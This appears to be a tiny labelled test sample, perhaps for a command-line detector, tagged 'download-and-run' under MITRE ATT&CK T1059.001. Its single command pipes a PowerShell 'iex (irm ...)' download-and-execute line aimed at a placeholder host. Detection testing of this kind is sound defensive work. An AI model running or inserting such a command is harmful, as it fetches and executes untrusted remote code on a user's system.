@rem expect: download-and-run | source: MITRE ATT&CK T1059.001
echo iex (irm http://files.example.invalid/s) | powershell -NoProfile -
